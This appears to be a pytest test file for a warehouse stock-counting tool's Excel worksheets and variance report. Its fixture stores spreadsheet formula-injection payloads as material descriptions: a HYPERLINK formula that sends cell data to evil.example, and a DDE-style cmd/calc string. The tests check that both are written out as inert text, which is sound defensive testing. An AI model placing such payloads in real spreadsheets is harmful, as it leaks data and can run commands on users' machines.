"""Count worksheets and the variance report: print, fill in, load back; text stays text."""

from __future__ import annotations

import zipfile
from datetime import date

import openpyxl
import pytest
from counting_support import AT, MON, WED, add_material, add_stock

from pipelines.access import User
from pipelines.counting.records import add_count
from pipelines.counting.schedule import add_to_schedule
from pipelines.ingest.load import load_file
from pipelines.reports.variance_report import write_variance_report
from pipelines.reports.worksheets import HEADER_ROW, worksheet_lines, write_worksheets
from pipelines.sap.headers import ExportKind, match_header
from pipelines.settings import get_settings
from pipelines.warehouse.db import fetch, query, warehouse

EVIL_DESCRIPTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def planned(wics_home):
    with warehouse() as con:
        add_material(con, "10000001", description=EVIL_DESCRIPTION, abc="A", price=2.0)
        add_material(con, "-5X", description="+cmd|' /C calc'!A0", abc="B")
        add_material(con, "@RISK", description="Risk @ shelf", abc="C")
        add_stock(con, MON, "10000001", sloc="0001", unrestricted=30)
        add_stock(con, MON, "10000001", sloc="0002", unrestricted=10, blocked=2)
        add_stock(con, MON, "@RISK", sloc="0001", unrestricted=7)
        add_count(con, count_date=MON, material="10000001", plant="1000", quantity=None,
                  location="R01-A", storage_location="0001", user=User.system("t"), entered_at=AT,
                  settings=get_settings())
        for material, counter in (("10000001", "ANA"), ("-5X", "ANA"), ("@RISK", "BEN")):
            add_to_schedule(con, user=User.system(), count_date=WED, material=material,
                            plant="1000",
                            counter=counter, reason="cycle", settings=get_settings())
    return wics_home


def _rows(path):
    sheet = openpyxl.load_workbook(path).active
    return sheet, [list(r) for r in sheet.iter_rows(values_only=True)]


def test_worksheets_by_counter_are_blind_and_loader_readable(planned, tmp_path):
    with warehouse() as con:
        paths = write_worksheets(con, WED, tmp_path / "sheets", config=get_settings().counting)
    assert [p.name for p in paths] == ["count_2026-11-04_ANA.xlsx", "count_2026-11-04_BEN.xlsx"]
    sheet, rows = _rows(paths[0])
    header = rows[HEADER_ROW - 1]
    assert header == ["Count Date", "Material", "Plant", "Description", "Storage Location",
                      "Last Locations", "Unit", "Location", "Counted Qty", "Counter", "Notes"]
    assert "SAP Qty" not in header  # blind by default: the column is not there at all
    assert match_header(header).kind is ExportKind.COUNT_SHEET
    body = [dict(zip(header, r, strict=True)) for r in rows[HEADER_ROW:] if any(r)]
    assert [b["Material"] for b in body] == ["10000001", "-5X"]
    first = body[0]
    assert first["Description"] == EVIL_DESCRIPTION
    assert first["Last Locations"] == "0001/R01-A"
    assert first["Counter"] == "ANA" and first["Count Date"].date() == WED
    assert first["Location"] is None and first["Counted Qty"] is None
    assert sheet.print_title_rows == "$4:$4" and sheet.page_setup.orientation == "landscape"


def test_text_from_sap_never_becomes_a_formula(planned, tmp_path):
    with warehouse() as con:
        path = write_worksheets(con, WED, tmp_path, blind=False, config=get_settings().counting)[0]
    with zipfile.ZipFile(path) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
    sheet = openpyxl.load_workbook(path).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (EVIL_DESCRIPTION, "+cmd|' /C calc'!A0", "-5X"):
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix is True  # Excel shows it as typed text
    assert cells["ANA"].quotePrefix is False  # ordinary text is left alone


def test_sap_quantities_only_on_open_worksheets(planned, tmp_path):
    with warehouse() as con:
        path = write_worksheets(con, WED, tmp_path, blind=False, config=get_settings().counting)[0]
    _, rows = _rows(path)
    header = rows[HEADER_ROW - 1]
    assert "SAP Qty" in header and match_header(header).kind is ExportKind.COUNT_SHEET
    body = {r[1]: dict(zip(header, r, strict=True)) for r in rows[HEADER_ROW:] if any(r)}
    assert body["10000001"]["SAP Qty"] == 42  # 30 + 10 + 2 blocked, Monday's snapshot
    assert body["-5X"]["SAP Qty"] == 0


def test_filled_in_worksheet_loads_back_through_the_count_sheet_loader(planned, tmp_path):
    with warehouse() as con:
        path = write_worksheets(con, WED, tmp_path / "printed", config=get_settings().counting)[0]
    book = openpyxl.load_workbook(path)
    sheet = book.active
    header = [c.value for c in sheet[HEADER_ROW]]
    column = {label: header.index(label) + 1 for label in header}
    lines = {sheet.cell(r, column["Material"]).value: r
             for r in range(HEADER_ROW + 1, sheet.max_row + 1)
             if sheet.cell(r, column["Material"]).value}
    # As a counter fills it in: a quantity typed as a sum, a location seen but not counted,
    # and on a spare line a second location of the first material.
    row = lines["10000001"]
    sheet.cell(row, column["Location"], "R01-A")
    sheet.cell(row, column["Counted Qty"], "24*2")
    sheet.cell(row, column["Storage Location"], "0001")
    sheet.cell(lines["-5X"], column["Location"], "R02-B")
    spare = max(lines.values()) + 1
    for label, value in (("Material", "10000001"), ("Plant", "1000"),
                         ("Storage Location", "0002"), ("Location", "R07"),
                         ("Counted Qty", 12), ("Counter", "ANA"), ("Notes", "behind pallet")):
        sheet.cell(spare, column[label], value)
    filled = tmp_path / "scanned" / path.name
    filled.parent.mkdir()
    book.save(filled)

    result = load_file(filled)
    assert result.status == "loaded", result.error
    assert result.kind == "count_sheet" and result.rows_loaded == 3
    counts = query("SELECT * FROM physical_count WHERE count_date = ? ORDER BY location",
                   [WED])
    assert counts.select("material", "storage_location", "location", "quantity",
                         "quantity_expr", "counter").rows() == [
        ("10000001", "0001", "R01-A", 48.0, "24*2", "ANA"),
        ("-5X", None, "R02-B", None, None, "ANA"),
        ("10000001", "0002", "R07", 12.0, "12", "ANA"),
    ]
    assert set(counts["entered_by"]) == {f"sheet:{filled.name}"}
    assert counts["notes"].to_list()[2] == "behind pallet"
    with warehouse(read_only=True) as con:
        line = fetch(con, "SELECT * FROM count_variance WHERE count_date = ?", [WED])
        status = dict(fetch(con, "SELECT material, status FROM count_schedule "
                                 "WHERE count_date = ?", [WED]).iter_rows())
    assert line.select("material", "counted_qty", "sap_qty").rows() == [("10000001", 60, 42)]
    # A location seen is not a count: -5X stays open on the schedule.
    assert status == {"10000001": "counted", "-5X": "planned", "@RISK": "planned"}


def test_worksheets_by_storage_location(planned, tmp_path):
    with warehouse() as con:
        lines = worksheet_lines(con, WED, by="location", config=get_settings().counting)
        paths = write_worksheets(con, WED, tmp_path, by="location", spare_lines=0,
                                 config=get_settings().counting)
    by_sheet = {s: sorted(g["material"].to_list()) for (s,), g in lines.group_by("sheet")}
    assert by_sheet == {"0001": ["10000001", "@RISK"], "0002": ["10000001"],
                        "unassigned": ["-5X"]}
    assert [p.name for p in paths] == ["count_2026-11-04_0001.xlsx",
                                       "count_2026-11-04_0002.xlsx",
                                       "count_2026-11-04_unassigned.xlsx"]
    _, rows = _rows(paths[1])
    body = [r for r in rows[HEADER_ROW:] if any(r)]
    assert len(body) == 1 and body[0][4] == "0002"  # storage location filled in


def test_counted_lines_are_not_printed_again(planned, tmp_path):
    with warehouse() as con:
        add_count(con, count_date=WED, material="@RISK", plant="1000", quantity="7",
                  user=User.system("t"), entered_at=AT, settings=get_settings())
        assert write_worksheets(con, WED, tmp_path, config=get_settings().counting) == [
            tmp_path / "count_2026-11-04_ANA.xlsx"]
        again = write_worksheets(con, WED, tmp_path / "all", include_counted=True,
                                 config=get_settings().counting)
    assert len(again) == 2


def test_variance_report_for_managers(planned, tmp_path):
    with warehouse() as con:
        add_count(con, count_date=WED, material="10000001", plant="1000", quantity="40",
                  user=User.system("t"), entered_at=AT, movement_during_count=True,
                  settings=get_settings())
        add_count(con, count_date=WED, material="@RISK", plant="1000", quantity="7",
                  user=User.system("t"), entered_at=AT, settings=get_settings())
        path = write_variance_report(con, tmp_path / "variance.xlsx", start=MON,
                                     end=date(2026, 11, 6))
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Variances"]
    detail = [list(r) for r in book["Variances"].iter_rows(values_only=True)]
    header = detail[0]
    assert match_header(header).kind is None  # never mistaken for an export if dropped
    first = dict(zip(header, detail[1], strict=True))
    assert first["Material"] == "10000001"  # the biggest absolute value first
    assert first["Material description"] == EVIL_DESCRIPTION
    assert (first["Counted (sum)"], first["SAP (snapshot)"], first["Variance"]) == (40, 42, -2)
    assert first["Variance value"] == -4 and first["Within tolerance"] == "NO"
    assert first["Recount"] == "yes" and first["Flags"] == "movement during count"
    assert book["Variances"].cell(2, header.index("Material description") + 1).data_type == "s"
    summary = {r[0]: r[1] for r in book["Summary"].iter_rows(min_row=3, max_row=11,
                                                             values_only=True)}
    assert summary["Lines counted (with a snapshot)"] == 2
    assert summary["Inventory record accuracy %"] == 50
    assert summary["Total absolute variance value"] == 4

    dropped = load_file(path)
    assert dropped.status == "rejected"  # not an export, not a count sheet: nothing loaded
